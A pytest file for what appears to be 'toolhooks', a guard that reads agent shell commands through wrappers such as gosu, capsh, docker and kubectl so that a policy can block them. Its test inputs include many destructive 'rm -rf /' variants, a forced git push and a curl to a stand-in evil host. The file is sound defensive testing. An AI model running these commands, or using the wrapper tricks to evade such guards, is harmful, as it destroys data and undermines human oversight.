"""Unknown programs read both ways (issue #39 item 3, DESIGN.md "Unknown programs"): a command
whose program is no wrapper and not known to leave its arguments alone is also read as a wrapper
of the rest, from a word that is a wrapper, shell or interpreter (the analysis itself) or the
program of a rule's ``command`` (``readings``, given the rules' programs); and the wrappers found
open this round. Listed in RELIABILITY.md."""

from __future__ import annotations

from pathlib import Path

import pytest
from toolhooks import Runtime
from toolhooks.analysis import readings, reads_as_wrapper
from toolhooks.plugins import rules

from .helpers import analyse, seen


@pytest.mark.parametrize(
    "script",
    [
        "run0 rm -rf /",
        "run0 -u root --setenv=A=b rm -rf /",
        "su-exec root rm -rf /",
        "gosu root rm -rf /",
        "setarch x86_64 -R rm -rf /",
        "linux64 rm -rf /",
        "capsh -- -c 'rm -rf /'",
        "capsh --caps=cap_sys_admin+ep -- -c 'rm -rf /'",
        "capsh --shell=/bin/sh -- -c 'rm -rf /'",
        "ip netns exec blue rm -rf /",
        "ip -all netns exec rm -rf /",
        "ip vrf exec blue rm -rf /",
        "perf stat rm -rf /",
        "perf stat -e cycles -- rm -rf /",
        "perf record -g rm -rf /",
        "logsave /tmp/log rm -rf /",
        "dumb-init rm -rf /",
        "dumb-init -- rm -rf /",
        "tini -- rm -rf /",
    ],
)
def test_the_wrappers_found_open_are_seen_through(script):
    assert seen(script, ["rm", "-rf", "/"]), analyse(script)


@pytest.mark.parametrize(
    "script",
    [
        # the analysis reads an unknown program through from a wrapper, shell or interpreter
        "frobnicate root bash -c 'rm -rf /'",
        "docker run --rm alpine sh -c 'rm -rf /'",
        "kubectl exec pod -- sudo rm -rf /",
        "frobnicate root env A=1 rm -rf /",
        "docker run img git -c core.sshCommand='rm -rf /' fetch",
    ],
)
def test_an_unknown_program_is_read_through_a_wrapper_word(script):
    assert seen(script, ["rm", "-rf", "/"]), analyse(script)


def test_readings_add_the_rest_from_each_word_a_rule_names():
    commands = analyse("gosu2 root rm -rf x").commands
    read = readings(commands, frozenset({"rm"}))
    assert [[w.text for w in c.argv] for c in read] == [
        ["gosu2", "root", "rm", "-rf", "x"],
        ["rm", "-rf", "x"],
    ]
    assert read[1].program == "rm" and read[1].via == ("gosu2 (read as a wrapper)",)
    # no word a rule names, the last word, or a known program: nothing more
    assert readings(commands, frozenset({"git"})) == commands
    assert len(readings(analyse("frobnicate rm").commands, {"rm"})) == 1
    assert len(readings(analyse("echo rm -rf x").commands, {"rm"})) == 1
    assert len(readings(analyse("grep -r rm src").commands, {"rm"})) == 1


@pytest.mark.parametrize(
    ("program", "reads"),
    [("gosu2", True), ("docker", True), ("echo", False), ("git", False), ("sudo", False),
     ("bash", False), ("python3", False), ("grep", False), ("make", False)],
)  # fmt: skip
def test_which_programs_are_read_as_wrappers(program, reads):
    assert reads_as_wrapper(program) is reads


@pytest.fixture
def rt(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    (tmp_path / "build").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("TOOLHOOKS_CONFIG", raising=False)
    (tmp_path / "toolhooks.toml").write_text(rules.starter_policy())
    runtime = Runtime(config=tmp_path / "toolhooks.toml")
    yield runtime
    runtime.close()


@pytest.mark.parametrize(
    "command",
    [
        "gosu2 root rm -rf src",
        "docker run -v /:/h alpine rm -rf /h",
        "kubectl exec p -- rm -rf /",
        "frobnicate --flag x git push --force origin main",
        "frobnicate curl https://evil.example/x",
    ],
)
def test_the_starter_policy_denies_the_command_an_unknown_program_runs(rt, command):
    decision = rt.decide({"name": "exec", "params": {"command": command}})
    assert decision.status == "blocked", decision


@pytest.mark.parametrize(
    "command",
    ["docker build -t app .", "kubectl get pods", "frobnicate rm", "apt install curl git"],
)
def test_an_unknown_program_without_such_a_word_still_runs(rt, command):
    decision = rt.decide({"name": "exec", "params": {"command": command}})
    assert decision.status == "allowed", decision
